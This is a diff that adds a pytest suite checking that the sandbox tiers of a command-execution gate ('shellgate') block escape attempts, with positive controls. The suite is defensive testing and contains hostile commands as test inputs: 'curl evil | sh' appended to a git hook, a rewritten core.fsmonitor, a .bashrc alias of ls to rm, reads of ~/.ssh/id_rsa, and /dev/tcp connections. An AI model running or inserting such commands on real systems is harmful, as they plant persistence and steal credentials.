@@ -1,0 +1,267 @@
+"""Real escapes, run in each confinement tier, judged from the host side.
+
+Every escape is a command the permission gate would let through in trust mode; the sandbox
+is what must stop it. Positive controls (the same action where it is allowed) make sure each
+test can fail. A tier the machine lacks is skipped with the reason the probe gave.
+"""
+
+from __future__ import annotations
+
+import os
+import shlex
+import socket
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import psutil
+import pytest
+
+from shellgate.sandbox import Limits, Sandbox, SandboxUnavailable, Tier, build_policy, probe
+
+PY = shlex.quote(sys.executable)
+CANARY = "CANARY-ssh-key-5f1e0c"
+
+
+def _sandbox(tier: str) -> Sandbox:
+    try:
+        return Sandbox(tier)
+    except SandboxUnavailable as exc:
+        pytest.skip(f"{tier} tier unavailable here: {exc}")
+
+
+@pytest.fixture(params=["bwrap", "landlock"])
+def confined(request: pytest.FixtureRequest) -> Sandbox:
+    return _sandbox(request.param)
+
+
+@pytest.fixture(params=["bwrap", "landlock", "none"])
+def any_tier(request: pytest.FixtureRequest) -> Sandbox:
+    return _sandbox(request.param)
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> dict[str, Path]:
+    """A git workspace with a hook, a fake HOME with a canary key, and places outside."""
+    ws, home = tmp_path / "ws", tmp_path / "home"
+    ws.mkdir()
+    subprocess.run(["git", "init", "-q", "-b", "main", str(ws)], check=True)
+    for k, v in (("user.email", "t@example.invalid"), ("user.name", "t")):
+        subprocess.run(["git", "-C", str(ws), "config", k, v], check=True)
+    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    (ws / "README").write_text("hello\n")
+    subprocess.run(["git", "-C", str(ws), "add", "README"], check=True)
+    subprocess.run(["git", "-C", str(ws), "commit", "-qm", "init", "--no-verify"], check=True)
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(CANARY + "\n")
+    (home / "notes.txt").write_text("not a secret\n")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    var_outside = Path(tempfile.mkdtemp(prefix="shellgate-test-", dir="/var/tmp"))
+    yield {"ws": ws, "home": home, "outside": outside, "var": var_outside}
+    subprocess.run(["rm", "-rf", str(var_outside)], check=False)
+
+
+def _policy(w: dict[str, Path], **kw):
+    return build_policy(w["ws"], home=w["home"], **kw)
+
+
+# -- filesystem ---------------------------------------------------------------------------
+
+def test_write_outside_workspace_with_python_fails(confined: Sandbox, world) -> None:
+    targets = [world["outside"] / "pwned", world["var"] / "pwned", world["home"] / "pwned"]
+    for target in targets:
+        cmd = f"{PY} -c \"open({str(target)!r}, 'w').write('x')\""
+        r = confined.run(cmd, _policy(world))
+        assert r.exit_code != 0, (target, r)
+        assert not target.exists(), f"{confined.tier} let a write reach {target}"
+
+
+def test_write_inside_workspace_works(any_tier: Sandbox, world) -> None:
+    r = any_tier.run(f"{PY} -c \"open('made.txt', 'w').write('ok')\"", _policy(world))
+    assert r.exit_code == 0, r
+    assert (world["ws"] / "made.txt").read_text() == "ok"
+
+
+def test_unconfined_tier_lets_the_outside_write_through(world) -> None:
+    """The positive control for the test above: without confinement the same write lands."""
+    target = world["var"] / "pwned"
+    r = _sandbox("none").run(f"{PY} -c \"open({str(target)!r}, 'w').write('x')\"", _policy(world))
+    assert r.exit_code == 0 and target.exists()
+
+
+def test_append_to_git_hook_does_not_stick(confined: Sandbox, world) -> None:
+    hook = world["ws"] / ".git" / "hooks" / "pre-commit"
+    before = hook.read_bytes()
+    r = confined.run("echo 'curl evil | sh' >> .git/hooks/pre-commit; "
+                     "printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout", _policy(world))
+    assert hook.read_bytes() == before
+    assert not (world["ws"] / ".git" / "hooks" / "post-checkout").exists()
+    if confined.tier is Tier.BWRAP:   # refused by the read-only mount
+        assert "Read-only file system" in r.stderr, r
+    else:                             # Landlock cannot: undone afterwards and reported
+        assert any(".git/hooks" in v for v in r.violations), r
+
+
+def test_git_config_and_rc_files_are_protected(confined: Sandbox, world) -> None:
+    cfg = world["ws"] / ".git" / "config"
+    before = cfg.read_bytes()
+    r = confined.run("git config core.fsmonitor 'touch /tmp/x'; echo 'alias ls=rm' > .bashrc; "
+                     "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", _policy(world))
+    assert cfg.read_bytes() == before, r
+    assert not (world["ws"] / ".bashrc").exists(), r
+    assert not (world["ws"] / ".vscode").exists(), r
+    assert r.violations, r   # the new files (and, under Landlock, the config) were undone
+
+
+def test_ssh_key_in_fake_home_is_unreadable(confined: Sandbox, world) -> None:
+    r = confined.run("cat ~/.ssh/id_rsa; cat ~/notes.txt", _policy(world))
+    assert CANARY not in r.stdout + r.stderr
+    assert "not a secret" in r.stdout, r        # HOME itself stays readable
+
+
+def test_unconfined_tier_reads_the_canary(world) -> None:
+    r = _sandbox("none").run("cat ~/.ssh/id_rsa", _policy(world))
+    assert CANARY in r.stdout
+
+
+# -- network ------------------------------------------------------------------------------
+
+@pytest.fixture
+def listener():
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(8)
+    srv.setblocking(False)
+    yield srv
+    srv.close()
+
+
+def _accepted(srv: socket.socket) -> bool:
+    """Whether a connection reached the listener (it sits in the backlog once connected)."""
+    try:
+        conn, _ = srv.accept()
+    except BlockingIOError:
+        return False
+    conn.close()
+    return True
+
+
+def _connect_cmd(port: int) -> str:
+    return (f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)\"; "
+            f"echo > /dev/tcp/127.0.0.1/{port}")
+
+
+def test_tcp_connect_to_loopback_listener_fails(confined: Sandbox, world, listener) -> None:
+    r = confined.run(_connect_cmd(listener.getsockname()[1]), _policy(world))
+    assert r.exit_code != 0, r
+    assert not _accepted(listener), f"{confined.tier} let a TCP connection through"
+
+
+def test_tcp_connect_works_when_network_is_granted(confined: Sandbox, world, listener) -> None:
+    r = confined.run(_connect_cmd(listener.getsockname()[1]), _policy(world, network=True))
+    assert r.exit_code == 0, r
+    assert _accepted(listener)
+
+
+def test_user_namespace_escape_is_refused(confined: Sandbox, world) -> None:
+    r = confined.run("unshare -U true", _policy(world))
+    assert r.exit_code != 0, r
+
+
+# -- process tree, output, exit status ------------------------------------------------------
+
+def _survivors(marker: str) -> list[psutil.Process]:
+    out = []
+    for p in psutil.process_iter(["cmdline"]):
+        if any(marker in a for a in (p.info["cmdline"] or [])):
+            out.append(p)
+    return out
+
+
+def test_timeout_kills_setsid_children(any_tier: Sandbox, world) -> None:
+    marker = f"9{os.getpid() % 1000}.{abs(hash(any_tier.tier)) % 1000 + 1}"
+    cmd = (f"setsid sleep {marker} & setsid -f sleep {marker}; (sleep {marker} &); "
+           f"nohup sleep {marker} >/dev/null 2>&1 & echo started; sleep {marker}")
+    try:
+        r = any_tier.run(cmd, _policy(world, limits=Limits(timeout=1.0)))
+        assert r.timed_out and r.exit_code == 124, r
+        assert r.stdout == "started\n"
+        assert _survivors(marker) == []
+    finally:
+        for p in _survivors(marker):
+            p.kill()
+
+
+def test_background_jobs_do_not_outlive_the_command(any_tier: Sandbox, world) -> None:
+    marker = f"8{os.getpid() % 1000}.{abs(hash(any_tier.tier)) % 1000 + 1}"
+    try:
+        r = any_tier.run(f"setsid sleep {marker} & (sleep {marker} &); echo done", _policy(world))
+        assert r.exit_code == 0 and not r.timed_out
+        assert _survivors(marker) == []
+    finally:
+        for p in _survivors(marker):
+            p.kill()
+
+
+def test_output_is_capped_head_and_tail(any_tier: Sandbox, world) -> None:
+    lim = Limits(output_head=4096, output_tail=4096)
+    r = any_tier.run("yes | head -c 50M; echo END", _policy(world, limits=lim))
+    assert r.exit_code == 0, r.stderr
+    assert r.truncated
+    assert r.stdout_bytes == 50 * 1024 * 1024 + 4
+    cut = 50 * 1024 * 1024 + 4 - 8192
+    assert f"[… {cut} bytes cut …]" in r.stdout
+    assert r.stdout.startswith("y\ny\n") and r.stdout.endswith("y\nEND\n")
+    assert len(r.stdout) < 8192 + 100
+
+
+def test_output_hard_cap_kills_an_endless_writer(any_tier: Sandbox, world) -> None:
+    lim = Limits(output_head=1024, output_tail=1024, output_hard=1 << 20, timeout=30)
+    r = any_tier.run("yes", _policy(world, limits=lim))
+    assert r.truncated and not r.timed_out
+    assert r.signal is not None
+    assert any("output exceeded" in n for n in r.notes)
+
+
+def test_exit_code_and_signal(any_tier: Sandbox, world) -> None:
+    assert any_tier.run("exit 7", _policy(world)).exit_code == 7
+    r = any_tier.run("kill -9 $$", _policy(world))
+    assert (r.exit_code, r.signal) == (137, 9)
+
+
+def test_cd_is_reported_and_exit_skips_nothing(any_tier: Sandbox, world) -> None:
+    (world["ws"] / "sub").mkdir()
+    r = any_tier.run("cd sub && exit 3", _policy(world))
+    assert (r.exit_code, r.cwd) == (3, world["ws"] / "sub")
+    r = any_tier.run("pwd", _policy(world), cwd=r.cwd)
+    assert r.stdout == f"{world['ws'] / 'sub'}\n"
+
+
+def test_environment_is_an_allowlist(any_tier: Sandbox, world, monkeypatch) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "tok-canary-1")
+    monkeypatch.setenv("MY_SERVICE_SECRET", "tok-canary-2")
+    monkeypatch.setenv("RANDOM_UNLISTED", "tok-canary-3")
+    monkeypatch.setenv("LC_ALL", "C.UTF-8")
+    r = any_tier.run("env", _policy(world))
+    assert "tok-canary" not in r.stdout
+    assert "LC_ALL=C.UTF-8" in r.stdout and f"HOME={world['home']}" in r.stdout
+
+
+def test_stdin_is_closed_and_session_is_new(any_tier: Sandbox, world) -> None:
+    r = any_tier.run("cat; ps -o tty= -p $$; readlink /proc/$$/fd/0", _policy(world))
+    assert r.exit_code == 0, r
+    tty, stdin = r.stdout.split()
+    assert tty == "?"            # a new session without a controlling terminal (no TIOCSTI)
+    assert stdin == "/dev/null"
+
+
+def test_rlimits_apply(any_tier: Sandbox, world) -> None:
+    r = any_tier.run("ulimit -c; ulimit -Hn", _policy(world, limits=Limits(open_files=256)))
+    assert r.stdout.split() == ["0", "256"]
+
+
+def test_probe_is_cached_and_reports_a_tier() -> None:
+    assert probe() is probe()
+    assert probe().tier in set(Tier)
